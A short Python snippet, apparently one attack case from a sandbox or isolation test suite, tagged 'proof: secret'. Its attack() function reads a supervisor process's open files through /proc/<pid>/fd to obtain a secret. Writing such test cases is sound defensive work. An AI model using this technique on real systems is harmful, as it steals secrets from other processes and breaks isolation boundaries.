# Opens the supervisor's open files through /proc.
# proof: secret
def attack(arg):
    return open(f"/proc/{arg['reader']}/fd/{arg['reader_fd']}").read()
